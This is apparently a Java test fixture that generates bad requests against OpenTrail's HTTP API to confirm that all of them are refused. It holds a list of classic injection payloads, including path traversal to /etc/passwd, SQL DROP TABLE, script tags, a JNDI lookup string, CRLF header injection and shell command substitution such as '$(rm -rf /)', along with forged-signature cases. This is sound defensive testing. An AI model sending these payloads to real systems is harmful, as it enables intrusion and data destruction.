package org.opentrail.tests;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;

/**
 * A corpus of bad requests to OpenTrail's HTTP API, written by hand and generated from a seed:
 * malformed form and JSON bodies, oversized bodies, deep nesting, invalid UTF-8, unknown actions,
 * broken signatures, and injection attempts in names, prefixes and lookup values sent with valid
 * signatures (so that they reach validation). Every one must be refused.
 */
final class BadRequests {
  /** One bad request: what it tries, and how to send it. */
  record Case(String what, Function<ApiClient, ApiClient.Answer> send) {}

  static final String[] INJECTIONS = {
    "../../etc/passwd",
    "..\\..\\windows",
    "' OR '1'='1",
    "\"; DROP TABLE trails; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/a}",
    "%00",
    "\u0000",
    "a\r\nX-Injected: 1",
    "$(rm -rf /)",
    "`id`",
    "{{7*7}}",
    "trail\u202Eevil",
    "\uFEFFname",
    "名前",
    "a/b",
    "/abs",
    "a;b",
    "a|b",
    "*",
    "?",
    "name with spaces",
  };

  private final Random random;
  private final ApiClient.Key key;
  private final String account;

  BadRequests(long seed, ApiClient.Key key, String account) {
    this.random = new Random(seed);
    this.key = key;
    this.account = account;
  }

  /** The hand-written cases and {@code generated} generated ones. */
  List<Case> all(int generated) {
    List<Case> cases = new ArrayList<>(handWritten());
    for (int i = 0; i < generated; i++) {
      cases.add(generate(i % 9));
    }
    return cases;
  }

  List<Case> handWritten() {
    List<Case> c = new ArrayList<>();
    c.add(raw("no parameters at all", "GET", "", null, null));
    c.add(raw("no Action", "GET", "Version=2020-07-06", null, null));
    c.add(raw("unknown Action", "GET", "Action=DropEverything&Version=2020-07-06", null, null));
    c.add(raw("bad Version", "GET", "Action=DescribeTrails&Version=1999-01-01", null, null));
    c.add(raw("half an escape", "GET", "Action=%4", null, null));
    c.add(raw("non-hex escape", "GET", "Action=%zz", null, null));
    c.add(raw("invalid UTF-8 in the query", "GET", "Action=%C3%28", null, null));
    c.add(raw("NUL in the query", "GET", "Action=Describe%00Trails", null, null));
    c.add(
        raw(
            "duplicate parameter",
            "GET",
            "Action=DescribeTrails&Action=DescribeTrails",
            null,
            null));
    c.add(raw("parameter without a name", "GET", "=x&Action=DescribeTrails", null, null));
    c.add(raw("overlong lone surrogate", "GET", "Action=%ED%A0%80", null, null));
    c.add(raw("XML body", "POST", "", "application/xml", "<Action>DescribeTrails</Action>"));
    c.add(
        raw(
            "JSON body without ACS3",
            "POST",
            "",
            "application/json",
            "{\"Action\":\"DescribeTrails\"}"));
    c.add(raw("multipart body", "POST", "", "multipart/form-data; boundary=x", "--x\r\n\r\n--x--"));
    c.add(
        raw(
            "form body with invalid UTF-8",
            "POST",
            "",
            "application/x-www-form-urlencoded",
            "Action=%FF%FE"));
    c.add(
        raw(
            "form body with a bare control char",
            "POST",
            "",
            "application/x-www-form-urlencoded",
            "Action=a\u0001b"));
    c.add(
        raw(
            "Format XML",
            "GET",
            "Action=DescribeTrails&Version=2020-07-06&Format=XML",
            null,
            null));
    c.add(raw("PUT method", "PUT", "Action=DescribeTrails&Version=2020-07-06", null, ""));
    c.add(raw("DELETE method", "DELETE", "Action=DescribeTrails&Version=2020-07-06", null, null));
    StringBuilder many = new StringBuilder("Action=DescribeTrails");
    for (int i = 0; i < 300; i++) {
      many.append("&P").append(i).append("=x");
    }
    c.add(raw("300 parameters", "GET", many.toString(), null, null));
    c.add(
        new Case(
            "a body declared 49 MiB long",
            a -> a.declaring(49L << 20, "Action=PutEvents".getBytes(StandardCharsets.US_ASCII))));
    c.add(
        signed(
            "unsigned-looking signature",
            "DescribeTrails",
            Map.of(),
            p -> p.put("Signature", "AAAA")));
    c.add(
        signed(
            "HMAC-SHA256 as method",
            "DescribeTrails",
            Map.of(),
            p -> p.put("SignatureMethod", "HMAC-MD5")));
    c.add(
        signed(
            "timestamp 20 minutes old",
            "DescribeTrails",
            Map.of(),
            p ->
                p.put(
                    "Timestamp",
                    Instant.now().minusSeconds(1200).toString().replaceAll("\\.\\d+", ""))));
    c.add(
        signed(
            "timestamp 20 minutes ahead",
            "DescribeTrails",
            Map.of(),
            p ->
                p.put(
                    "Timestamp",
                    Instant.now().plusSeconds(1200).toString().replaceAll("\\.\\d+", ""))));
    c.add(
        signed(
            "timestamp not a time",
            "DescribeTrails",
            Map.of(),
            p -> p.put("Timestamp", "yesterday")));
    c.add(
        signed(
            "unknown access key",
            "DescribeTrails",
            Map.of(),
            p -> p.put("AccessKeyId", "LTAI00000000000000000000")));
    c.add(signed("no nonce", "DescribeTrails", Map.of(), p -> p.remove("SignatureNonce")));
    c.add(signed("unknown parameter", "DescribeTrails", Map.of("Colour", "red"), p -> {}));
    c.add(
        signed(
            "organization trail",
            "CreateTrail",
            Map.of("Name", "org-trail", "OssBucketName", "b-1", "IsOrganizationTrail", "true"),
            p -> {}));
    c.add(
        signed(
            "foreign SLS project",
            "CreateTrail",
            Map.of(
                "Name", "sls-trail", "SlsProjectArn", "acs:log:local:9999999999999999:project/p"),
            p -> {}));
    c.add(
        signed(
            "foreign write role",
            "CreateTrail",
            Map.of(
                "Name",
                "role-trail",
                "OssBucketName",
                "b-1",
                "OssWriteRoleArn",
                "acs:ram::1:role/x"),
            p -> {}));
    c.add(
        signed(
            "trail without destination", "CreateTrail", Map.of("Name", "lonely-trail"), p -> {}));
    c.add(signed("MaxResults 51", "LookupEvents", Map.of("MaxResults", "51"), p -> {}));
    c.add(
        signed(
            "forged NextToken", "LookupEvents", Map.of("NextToken", "eyJhIjoxfQ.AAAA"), p -> {}));
    c.add(
        signed(
            "unknown lookup key",
            "LookupEvents",
            Map.of("LookupAttribute.1.Key", "Password", "LookupAttribute.1.Value", "x"),
            p -> {}));
    c.add(signed("PageSize 1000", "ListDeliveryHistoryJobs", Map.of("PageSize", "1000"), p -> {}));
    c.add(
        signed("JobId not a number", "GetDeliveryHistoryJob", Map.of("JobId", "1; DROP"), p -> {}));
    c.add(
        signed(
            "policy that is not JSON",
            "CreatePolicy",
            Map.of("PolicyName", "p-1", "PolicyDocument", "{Statement"),
            p -> {}));
    c.add(
        signed(
            "policy with a Condition",
            "CreatePolicy",
            Map.of(
                "PolicyName",
                "p-2",
                "PolicyDocument",
                "{\"Version\":\"1\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\",\"Condition\":{}}]}"),
            p -> {}));
    c.add(
        signed(
            "system policy type",
            "AttachPolicyToUser",
            Map.of(
                "PolicyName", "AdministratorAccess", "PolicyType", "System", "UserName", "nobody"),
            p -> {}));
    c.add(
        signed(
            "events not an array",
            "PutEvents",
            Map.of("Events", "{\"eventName\":\"X\"}"),
            p -> {}));
    c.add(
        signed(
            "events all invalid",
            "PutEvents",
            Map.of("Events", "[{\"eventName\":\"X\"}]"),
            p -> {}));
    c.add(signed("empty event batch", "PutEvents", Map.of("Events", "[]"), p -> {}));
    c.add(
        new Case(
            "10,001 events",
            a ->
                a.call(key, "PutEvents", Map.of("Events", HttpApiTest.events("TooMany", 10_001)))));
    c.add(
        new Case(
            "JSON nested 100 deep",
            a ->
                a.putEventsJson(
                    key,
                    ("[" + "[".repeat(100) + "]".repeat(100) + "]")
                        .getBytes(StandardCharsets.UTF_8))));
    c.add(
        new Case(
            "JSON with invalid UTF-8",
            a ->
                a.putEventsJson(
                    key,
                    new byte[] {
                      '[', '{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}', ']'
                    })));
    return c;
  }

  private Case generate(int kind) {
    return switch (kind) {
      case 0 -> randomForm();
      case 1 -> randomAction();
      case 2 -> injectedTrail();
      case 3 -> injectedLookup();
      case 4 -> injectedUser();
      case 5 -> brokenJson();
      case 6 -> tamperedSignature();
      case 7 -> badEvents();
      default -> injectedDestinations();
    };
  }

  private Case randomForm() {
    byte[] b = new byte[1 + random.nextInt(200)];
    random.nextBytes(b);
    String prefix = random.nextBoolean() ? "Action=DescribeTrails&" : "";
    byte[] body = concat(prefix.getBytes(StandardCharsets.US_ASCII), b);
    return new Case(
        "random form bytes",
        a -> a.send("POST", "", "application/x-www-form-urlencoded", body, Map.of()));
  }

  private Case randomAction() {
    String action = injection() + random.nextInt(1000);
    return new Case("unknown action " + action, a -> a.call(key, action, Map.of()));
  }

  private Case injectedTrail() {
    String op =
        pick(
            "CreateTrail",
            "UpdateTrail",
            "DeleteTrail",
            "GetTrailStatus",
            "StartLogging",
            "StopLogging",
            "DescribeTrails",
            "CreateDeliveryHistoryJob");
    Map<String, String> p = new LinkedHashMap<>();
    switch (random.nextInt(3)) {
      case 0 -> {
        p.put(
            op.equals("DescribeTrails")
                ? "NameList"
                : op.equals("CreateDeliveryHistoryJob") ? "TrailName" : "Name",
            injection());
        if (op.equals("CreateTrail")) {
          p.put("OssBucketName", "bucket-" + random.nextInt(100));
        }
      }
      case 1 -> {
        p.put("Name", "good-trail-" + random.nextInt(100));
        p.put("OssBucketName", injection());
      }
      default -> {
        p.put("Name", "good-trail-" + random.nextInt(100));
        p.put("OssBucketName", "bucket-" + random.nextInt(100));
        p.put("OssKeyPrefix", pick("../", "/", "a/../../", "../../", "a\\", "a//") + injection());
      }
    }
    String action = p.containsKey("OssBucketName") ? pick("CreateTrail", "UpdateTrail") : op;
    if (action.equals("UpdateTrail")
        || !p.containsKey("OssBucketName") && !action.equals("DescribeTrails")) {
      // an update of a trail that does not exist is refused too: TrailNotFound
    }
    return new Case(action + " with " + p, a -> a.call(key, action, p));
  }

  private Case injectedLookup() {
    Map<String, String> p = new LinkedHashMap<>();
    switch (random.nextInt(5)) {
      case 0 -> {
        p.put(
            "LookupAttribute.1.Key",
            pick(
                "EventName",
                "UserName",
                "ResourceName",
                "ResourceType",
                "EventRW",
                "ServiceName",
                "EventAccessKeyId"));
        p.put("LookupAttribute.1.Value", injection().repeat(100) + "x".repeat(1025));
      }
      case 1 -> {
        p.put("LookupAttribute.1.Key", injection());
        p.put("LookupAttribute.1.Value", "x");
      }
      case 2 -> p.put(pick("StartTime", "EndTime"), injection());
      case 3 -> p.put("MaxResults", pick("-1", "0", "51", "1e3", "ten", injection()));
      default -> p.put("NextToken", injection());
    }
    return new Case("LookupEvents with " + p, a -> a.call(key, "LookupEvents", p));
  }

  private Case injectedUser() {
    String op =
        pick(
            "CreateUser",
            "GetUser",
            "DeleteUser",
            "CreateAccessKey",
            "ListAccessKeys",
            "CreatePolicy",
            "GetPolicy",
            "CreateRole");
    Map<String, String> p = new LinkedHashMap<>();
    switch (op) {
      case "CreatePolicy" -> {
        p.put("PolicyName", random.nextBoolean() ? injection() : "policy-" + random.nextInt(100));
        p.put(
            "PolicyDocument",
            random.nextBoolean()
                ? injection()
                : "{\"Version\":\"1\",\"Statement\":[{\"Effect\":\"" + injection() + "\"}]}");
      }
      case "GetPolicy" -> p.put("PolicyName", injection());
      case "CreateRole" -> {
        p.put("RoleName", injection());
        p.put("AssumeRolePolicyDocument", "{}");
      }
      default -> p.put("UserName", injection());
    }
    return new Case(op + " with " + p, a -> a.call(key, op, p));
  }

  private Case brokenJson() {
    byte[] json;
    switch (random.nextInt(5)) {
      case 0 -> {
        int depth = 65 + random.nextInt(5000);
        json = ("[".repeat(depth) + "]".repeat(depth)).getBytes(StandardCharsets.US_ASCII);
      }
      case 1 -> {
        String good = HttpApiTest.events("Cut", 3);
        json =
            good.substring(0, 1 + random.nextInt(good.length() - 1))
                .getBytes(StandardCharsets.UTF_8);
      }
      case 2 -> {
        json = HttpApiTest.events("Bytes", 2).getBytes(StandardCharsets.UTF_8);
        json[5 + random.nextInt(json.length - 10)] = (byte) (0x80 | random.nextInt(0x40));
      }
      case 3 ->
          json =
              (HttpApiTest.events("Trailing", 1) + pick(",", "]", "x", "{}"))
                  .getBytes(StandardCharsets.UTF_8);
      default ->
          json =
              pick(
                      "{",
                      "nul",
                      "[1,2,3]",
                      "\"events\"",
                      "[{\"eventName\":NaN}]",
                      "[{'a':1}]",
                      "[{\"a\":1,\"a\":2}]")
                  .getBytes(StandardCharsets.UTF_8);
    }
    byte[] body = json;
    if (random.nextBoolean()) {
      return new Case("PutEvents JSON body " + preview(body), a -> a.putEventsJson(key, body));
    }
    // as a form parameter: every byte %-escaped, so invalid UTF-8 stays invalid on the wire
    StringBuilder escaped = new StringBuilder("Events=");
    for (byte x : body) {
      escaped.append('%').append(String.format("%02X", x & 0xff));
    }
    byte[] form = escaped.toString().getBytes(StandardCharsets.US_ASCII);
    return new Case(
        "PutEvents Events " + preview(body),
        a -> {
          Map<String, String> query =
              ApiClient.common("PutEvents", ApiClient.VERSION, key, Instant.now());
          String events = new String(body, StandardCharsets.UTF_8);
          Map<String, String> all = new java.util.TreeMap<>(query);
          all.put("Events", events);
          query.put("Signature", ApiClient.signV1("POST", all, key.secret()));
          return a.send(
              "POST", ApiClient.encode(query), "application/x-www-form-urlencoded", form, Map.of());
        });
  }

  private Case tamperedSignature() {
    Map<String, String> business = Map.of("Name", "any-trail-" + random.nextInt(100));
    String op = pick("GetTrailStatus", "DeleteTrail", "StartLogging");
    return switch (random.nextInt(4)) {
      case 0 ->
          new Case(
              "wrong secret",
              a -> a.call(new ApiClient.Key(key.id(), key.secret() + "x"), op, business));
      case 1 -> signed("tampered after signing", op, business, p -> {}, true);
      case 2 ->
          signed("signature of random bytes", op, business, p -> p.put("Signature", injection()));
      default -> signed("bad timestamp", op, business, p -> p.put("Timestamp", injection()));
    };
  }

  private Case badEvents() {
    String[] bad = {
      "{\"eventRW\":\"Write\",\"serviceName\":\"Ecs\",\"userIdentity\":{}}",
      "{\"eventName\":\"X\",\"eventRW\":\"Sometimes\",\"serviceName\":\"Ecs\",\"userIdentity\":{}}",
      "{\"eventName\":1,\"eventRW\":\"Write\",\"serviceName\":\"Ecs\",\"userIdentity\":{}}",
      "{\"eventName\":\"X\",\"eventRW\":\"Write\",\"serviceName\":\"Ecs\",\"userIdentity\":\"root\"}",
      "{\"eventName\":\"X\",\"eventRW\":\"Write\",\"serviceName\":\"Ecs\",\"userIdentity\":{},\"eventTime\":\""
          + injection()
          + "\"}",
      "{\"eventName\":\"X\",\"eventRW\":\"Write\",\"serviceName\":\"Ecs\",\"userIdentity\":{},\"recipientAccountId\":\"1"
          + account.substring(1).replace('0', '9')
          + "1\"}",
      "{\"eventName\":\"X\",\"eventRW\":\"Write\",\"serviceName\":\"Ecs\",\"userIdentity\":{},\"eventId\":\""
          + "with space "
          + random.nextInt()
          + "\"}",
      "{\"eventName\":\"X\",\"eventRW\":\"Write\",\"serviceName\":\"Ecs\",\"userIdentity\":{},\"eventCategory\":\"Gossip\"}",
      "null",
    };
    StringBuilder b = new StringBuilder("[");
    int n = 1 + random.nextInt(5);
    for (int i = 0; i < n; i++) {
      b.append(i == 0 ? "" : ",").append(bad[random.nextInt(bad.length)]);
    }
    String events = b.append(']').toString();
    return new Case(
        "invalid events " + events, a -> a.call(key, "PutEvents", Map.of("Events", events)));
  }

  private Case injectedDestinations() {
    String config =
        pick(
            "[{\"Id\":\"d\",\"Type\":\"file\",\"Config\":{\"bucket\":\""
                + injection().replace("\"", "")
                + "\"}}]",
            "[{\"Id\":\"d\",\"Type\":\"file\",\"Config\":{\"bucket\":\"ok-bucket\",\"prefix\":\"../"
                + injection().replace("\"", "")
                + "\"}}]",
            "[{\"Id\":\"d\",\"Type\":\"logstore\",\"Config\":{\"retentionDays\":\""
                + random.nextInt()
                + "x\"}}]",
            "[{\"Id\":\"d\",\"Type\":\"file\",\"Colour\":\"red\"}]",
            "{\"Id\":\"d\"}",
            "[" + "[".repeat(70) + "]".repeat(70) + "]");
    Map<String, String> p =
        Map.of("Name", "dest-trail-" + random.nextInt(100), "Destinations", config);
    return new Case("CreateTrail Destinations " + config, a -> a.call(key, "CreateTrail", p));
  }

  private Case raw(String what, String method, String query, String type, String body) {
    byte[] b = body == null ? null : body.getBytes(StandardCharsets.UTF_8);
    return new Case(what, a -> a.overSocket(method, query, type, b, b == null ? 0 : b.length));
  }

  private Case signed(
      String what,
      String action,
      Map<String, String> business,
      java.util.function.Consumer<Map<String, String>> change) {
    return signed(what, action, business, change, false);
  }

  /** A signed call whose common parameters are changed before ({@code tamper}: after) signing. */
  private Case signed(
      String what,
      String action,
      Map<String, String> business,
      java.util.function.Consumer<Map<String, String>> change,
      boolean tamper) {
    return new Case(
        what,
        a -> {
          String version =
              ApiClient.RAM_ACTIONS.contains(action) ? ApiClient.RAM_VERSION : ApiClient.VERSION;
          Map<String, String> query = ApiClient.common(action, version, key, Instant.now());
          Map<String, String> form = new LinkedHashMap<>(business);
          if (!tamper) {
            change.accept(query);
            if (query.containsKey("Signature")) {
              return a.send(
                  "POST",
                  ApiClient.encode(query),
                  "application/x-www-form-urlencoded",
                  ApiClient.encode(form).getBytes(StandardCharsets.UTF_8),
                  Map.of());
            }
            return a.post(key, query, form);
          }
          Map<String, String> all = new java.util.TreeMap<>(query);
          all.putAll(form);
          query.put("Signature", ApiClient.signV1("POST", all, key.secret()));
          form.put("Name", form.getOrDefault("Name", "x") + "-tampered");
          return a.send(
              "POST",
              ApiClient.encode(query),
              "application/x-www-form-urlencoded",
              ApiClient.encode(form).getBytes(StandardCharsets.UTF_8),
              Map.of());
        });
  }

  private String injection() {
    String s = INJECTIONS[random.nextInt(INJECTIONS.length)];
    return switch (random.nextInt(4)) {
      case 0 -> s;
      case 1 -> s + s;
      case 2 -> "X" + s + random.nextInt(100);
      default -> s.repeat(1 + random.nextInt(20));
    };
  }

  @SafeVarargs
  private <T> T pick(T... options) {
    return options[random.nextInt(options.length)];
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] out = new byte[a.length + b.length];
    System.arraycopy(a, 0, out, 0, a.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }

  private static String preview(byte[] b) {
    String s = new String(b, 0, Math.min(b.length, 60), StandardCharsets.ISO_8859_1);
    return s + (b.length > 60 ? "... (" + b.length + " bytes)" : "");
  }
}
